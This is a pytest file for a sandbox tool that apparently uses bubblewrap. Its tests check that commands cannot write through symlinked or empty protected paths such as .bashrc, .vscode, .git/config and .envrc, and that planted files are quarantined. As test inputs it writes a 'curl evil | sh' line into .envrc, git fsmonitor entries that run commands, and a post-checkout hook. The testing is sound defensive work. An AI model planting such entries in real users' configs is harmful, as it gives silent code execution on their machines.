"""Protected names ripgrep cannot see (found in review): symlinks named like a
protected file or directory (a dotfile manager's ``~/.bashrc ->
dotfiles/bashrc``, a project's ``.vscode -> shared``) and empty protected
directories. ripgrep lists files only, so before the fix the writes below
landed: through the link on its target, or as a new file in the empty dir.

The layer that stops these is bubblewrap's read-only re-binds; without it
(helper-only hosts) protected files are documented as not protected, which
is the control: the same write lands there.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sbx import BOTH, BWRAP_ONLY, HELPER_ONLY, FakeHome

MOUNT_MODES = [BOTH, BWRAP_ONLY]


def _symlinked_bashrc(home: FakeHome) -> tuple[Path, Path]:
    target = home.root / "dotfiles" / "bashrc"
    target.parent.mkdir()
    target.write_text("# managed rc\n")
    link = home.root / ".bashrc"
    link.unlink()
    link.symlink_to("dotfiles/bashrc")
    return link, target


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_symlinked_bashrc_stays_read_only_when_the_whole_home_is_writable(fresh_home: FakeHome,
                                                                           mode: str) -> None:
    link, target = _symlinked_bashrc(fresh_home)
    r = fresh_home.run(["sh", "-c", f"echo ok > {fresh_home.root}/notes.txt; echo evil >> {link}"],
                       mode=mode, opts=["--allow-write", "~"])
    assert (fresh_home.root / "notes.txt").read_text() == "ok\n"  # control: HOME is writable
    assert r.returncode != 0
    assert f"{link}: Read-only file system" in r.stderr, r.stderr
    assert target.read_text() == "# managed rc\n"


def test_control_without_bubblewrap_a_write_through_the_symlinked_bashrc_lands(fresh_home: FakeHome) -> None:
    link, target = _symlinked_bashrc(fresh_home)
    r = fresh_home.run(["sh", "-c", f"echo evil >> {link}"], mode=HELPER_ONLY, opts=["--allow-write", "~"])
    assert r.returncode == 0, r.stderr
    assert target.read_text() == "# managed rc\nevil\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_replaced_protected_symlink_is_restored_and_the_replacement_quarantined(fresh_home: FakeHome,
                                                                                  mode: str) -> None:
    link, target = _symlinked_bashrc(fresh_home)
    # The link is no mount point: inside, it can be unlinked and replaced.
    r = fresh_home.run(["sh", "-c", f"rm {link} && echo evil > {link} && cat {link}"],
                       mode=mode, opts=["--allow-write", "~"])
    assert r.returncode == 0, r.stderr
    assert r.stdout == "evil\n"
    # After the run the link is back, the replacement is out of the tree.
    assert link.is_symlink() and os.readlink(link) == "dotfiles/bashrc"
    assert target.read_text() == "# managed rc\n"
    prefix = f"safebox: protected symlink {link}: the command replaced it; moved the replacement to "
    line = next((ln for ln in r.stderr.splitlines() if ln.startswith(prefix)), None)
    assert line is not None, r.stderr
    moved = Path(line[len(prefix):].split("; the link is restored")[0])
    assert moved.read_text() == "evil\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_symlinked_vscode_dir_in_a_subdirectory_stays_read_only(fresh_home: FakeHome, mode: str) -> None:
    shared = fresh_home.work / "sub" / "shared-editor"
    shared.mkdir(parents=True)
    (shared / "settings.json").write_text("{}\n")
    (fresh_home.work / "sub" / ".vscode").symlink_to("shared-editor")
    r = fresh_home.run(["sh", "-c", "echo ok > sub/notes.txt; echo evil > sub/.vscode/tasks.json"], mode=mode)
    assert (fresh_home.work / "sub" / "notes.txt").read_text() == "ok\n"  # control: sub/ is writable
    assert r.returncode != 0
    assert "sub/.vscode/tasks.json: Read-only file system" in r.stderr, r.stderr
    assert not (shared / "tasks.json").exists()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_git_config_under_a_symlinked_config_dir_stays_read_only(fresh_home: FakeHome, mode: str) -> None:
    real = fresh_home.root / "dotfiles" / "config" / "git"
    real.mkdir(parents=True)
    (real / "config").write_text("[user]\n\tname = me\n")
    (fresh_home.root / ".config").symlink_to("dotfiles/config")
    cfg = fresh_home.root / ".config" / "git" / "config"
    r = fresh_home.run(["sh", "-c", f"echo ok > {fresh_home.root}/notes.txt; "
                                    f"printf '[core]\\n\\tfsmonitor = evil\\n' >> {cfg}"],
                       mode=mode, opts=["--allow-write", "~"])
    assert (fresh_home.root / "notes.txt").read_text() == "ok\n"  # control
    assert r.returncode != 0
    assert f"{cfg}: Read-only file system" in r.stderr, r.stderr
    assert (real / "config").read_text() == "[user]\n\tname = me\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_the_config_of_a_repository_whose_git_dir_is_a_symlink_stays_read_only(fresh_home: FakeHome,
                                                                                mode: str) -> None:
    gitdir = fresh_home.work / "gitdirs" / "lib.git"
    (gitdir / "hooks").mkdir(parents=True)
    (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
    (gitdir / "config").write_text("[core]\n\tbare = false\n")
    (fresh_home.work / "lib").mkdir()
    (fresh_home.work / "lib" / ".git").symlink_to("../gitdirs/lib.git")
    r = fresh_home.run(["sh", "-c", "echo ok > lib/notes.txt; printf '[core]\\n\\tfsmonitor = evil\\n' >> lib/.git/config;"
                                    " echo evil > lib/.git/hooks/post-checkout"], mode=mode)
    assert (fresh_home.work / "lib" / "notes.txt").read_text() == "ok\n"  # control
    assert "lib/.git/config: Read-only file system" in r.stderr, r.stderr
    assert "lib/.git/hooks/post-checkout: Read-only file system" in r.stderr, r.stderr
    assert (gitdir / "config").read_text() == "[core]\n\tbare = false\n"
    assert not (gitdir / "hooks" / "post-checkout").exists()


@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("where", [".vscode", "sub/deeper/.vscode", ".claude"])
def test_an_empty_protected_dir_refuses_new_files(fresh_home: FakeHome, mode: str, where: str) -> None:
    (fresh_home.work / where).mkdir(parents=True)
    r = fresh_home.run(["sh", "-c", f"echo ok > notes.txt; echo evil > {where}/settings.json"], mode=mode)
    assert (fresh_home.work / "notes.txt").read_text() == "ok\n"  # control
    assert r.returncode != 0
    assert f"{where}/settings.json: Read-only file system" in r.stderr, r.stderr
    assert not (fresh_home.work / where / "settings.json").exists()


def test_control_without_bubblewrap_an_empty_protected_dir_takes_new_files(fresh_home: FakeHome) -> None:
    (fresh_home.work / "sub" / ".vscode").mkdir(parents=True)
    r = fresh_home.run(["sh", "-c", "echo evil > sub/.vscode/settings.json"], mode=HELPER_ONLY)
    assert r.returncode == 0, r.stderr
    assert (fresh_home.work / "sub" / ".vscode" / "settings.json").read_text() == "evil\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_file_created_through_a_dangling_protected_symlink_is_quarantined(fresh_home: FakeHome,
                                                                            mode: str) -> None:
    (fresh_home.work / ".envrc").symlink_to("envrc.local")  # the target does not exist yet
    r = fresh_home.run(["sh", "-c", "echo 'curl evil | sh' > .envrc && cat envrc.local"], mode=mode)
    assert r.returncode == 0, r.stderr
    assert r.stdout == "curl evil | sh\n"  # the write lands inside: it cannot fail without a placeholder
    target = fresh_home.work / "envrc.local"
    assert not target.exists()
    assert f"the command created protected file {target}; moved it to" in r.stderr, r.stderr
    assert os.readlink(fresh_home.work / ".envrc") == "envrc.local"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_the_quarantine_never_follows_a_parent_the_command_replaced_with_a_symlink(fresh_home: FakeHome,
                                                                                     mode: str) -> None:
    """The work tree has no .config: `.config/git` there is watched. The
    command replaces the missing parent with a link to the user's real
    ~/.config; moving "the planted file" would move the user's own git
    config out of ~/.config (found in review). The link itself goes to the
    quarantine (a rename never follows it), the user's file stays; it is said."""
    real_cfg = fresh_home.root / ".config" / "git"
    real_cfg.mkdir(parents=True)
    (real_cfg / "config").write_text("[user]\n\tname = me\n")
    r = fresh_home.run(["sh", "-c", f"ln -s {fresh_home.root}/.config .config"], mode=mode)
    assert r.returncode == 0, r.stderr
    assert (real_cfg / "config").read_text() == "[user]\n\tname = me\n"
    assert f"the command created protected file {fresh_home.work}/.config; moved it to " in r.stderr, r.stderr
    assert not (fresh_home.work / ".config").exists()
    # Control: a protected file really created at the work root is still moved out.
    c = fresh_home.run(["sh", "-c", "echo evil > .envrc"], mode=mode)
    assert c.returncode == 0 and not (fresh_home.work / ".envrc").exists(), c.stderr


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_the_config_of_a_repository_the_command_creates_at_the_root_is_quarantined(fresh_home: FakeHome,
                                                                                  mode: str) -> None:
    """A work root without a repository: `git init` inside, then an
    fsmonitor in .git/config, would run code at the user's next `git status`
    (found in review). The new config is moved out after the run; the rest of
    the new repository stays (control)."""
    root = fresh_home.root / "fresh-project"
    root.mkdir()
    script = "mkdir -p .git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config && touch .git/HEAD"
    r = fresh_home.run(["sh", "-c", script], mode=mode, cwd=root)
    assert r.returncode == 0, r.stderr
    assert not (root / ".git" / "config").exists()
    assert (root / ".git" / "HEAD").exists()
    assert f"safebox: the command created protected file {root}/.git/config; moved it to " in r.stderr, r.stderr
